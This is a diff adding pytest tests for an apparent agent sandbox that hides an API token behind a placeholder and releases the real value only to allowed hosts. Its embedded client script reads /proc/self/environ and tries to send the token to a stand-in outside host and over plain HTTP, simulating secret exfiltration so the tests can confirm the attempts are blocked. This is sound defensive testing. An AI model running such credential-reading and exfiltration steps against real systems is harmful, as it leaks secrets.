@@ -1,0 +1,104 @@
+"""Secrets the agent never sees: placeholders in the child, real values only to the listed hosts."""
+
+from __future__ import annotations
+
+import json
+import sys
+import textwrap
+
+import pytest
+
+REAL = "sk-real-0123456789abcdefSECRET"
+
+CLIENT = textwrap.dedent(
+    """
+    import base64, json, os, ssl, sys, urllib.request, urllib.error
+    token = os.environ["API_TOKEN"]
+    https_base, http_base = sys.argv[1], sys.argv[2]
+    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler(), urllib.request.HTTPSHandler(context=context))
+    def call(url, headers=None, data=None):
+        try:
+            with opener.open(urllib.request.Request(url, headers=headers or {}, data=data), timeout=20) as r:
+                return r.status, r.read().decode()
+        except urllib.error.HTTPError as e:
+            return e.code, e.read().decode()
+    basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
+    out = {
+        "env": token,
+        "environ_file": open("/proc/self/environ", "rb").read().decode(errors="replace"),
+        "bearer": call(https_base + "/echo", {"Authorization": f"Bearer {token}"}),
+        "basic": call(https_base + "/echo", {"Authorization": f"Basic {basic}"}),
+        "query": call(https_base + f"/echo?key={token}"),
+        "chunked": call(https_base + "/echo-chunked", {"Authorization": f"Bearer {token}"}),
+        "other_host": call(f"https://elsewhere.invalid/x", {"Authorization": f"Bearer {token}"}),
+        "plain_http": call(http_base + "/x", {"X-Key": token}),
+        "body_elsewhere": call(http_base + "/x", data=f"key={token}".encode()),
+    }
+    print(json.dumps(out))
+    """
+)
+
+
+@pytest.fixture
+def secret_run(weak_jail, jail_env, https_upstream, http_upstream, tmp_path):
+    audit, requests = tmp_path / "audit.jsonl", tmp_path / "requests.log"
+    result = weak_jail(
+        "-vv",
+        "--secret",
+        "API_TOKEN=127.0.0.2",
+        "--js",
+        "true",
+        "--audit-log",
+        str(audit),
+        "--request-log",
+        str(requests),
+        "--log-header-values",
+        "--",
+        sys.executable,
+        "-c",
+        CLIENT,
+        https_upstream.url(""),
+        http_upstream.url(""),
+        env={**jail_env, "API_TOKEN": REAL},
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    return json.loads(result.stdout), result, audit, requests
+
+
+def test_child_holds_only_a_placeholder(secret_run):
+    seen, *_ = secret_run
+    assert seen["env"] != REAL and seen["env"].startswith("sk-")
+    assert REAL not in seen["environ_file"]
+
+
+def test_listed_host_gets_the_real_value_and_echoes_come_back_masked(secret_run, https_upstream):
+    seen, *_ = secret_run
+    upstream_saw = [r["headers"].get("authorization", "") + r["path"] for r in https_upstream.requests]
+    assert f"Bearer {REAL}" in upstream_saw[0]
+    import base64
+
+    assert base64.b64encode(f"x-access-token:{REAL}".encode()).decode() in upstream_saw[1]
+    assert f"key={REAL}" in https_upstream.requests[2]["path"]
+    for name in ("bearer", "basic", "query", "chunked"):
+        status, body = seen[name]
+        assert status == 200, (name, body)
+        assert REAL not in body, name
+    assert seen["env"] in seen["bearer"][1] and seen["env"] in seen["chunked"][1]
+
+
+def test_placeholder_elsewhere_is_denied_and_never_sent(secret_run, http_upstream):
+    seen, *_ = secret_run
+    for name in ("other_host", "plain_http", "body_elsewhere"):
+        status, body = seen[name]
+        assert status == 403, name
+        assert "API_TOKEN" in body
+    assert http_upstream.connections == []
+
+
+def test_real_value_never_reaches_logs_or_diagnostics(secret_run):
+    _, result, audit, requests = secret_run
+    records = [json.loads(line) for line in audit.read_text().splitlines()]
+    assert sum(r["reason_code"] == "secret_leak" for r in records) == 3
+    for text in (audit.read_text(), requests.read_text(), result.stderr, result.stdout):
+        assert REAL not in text
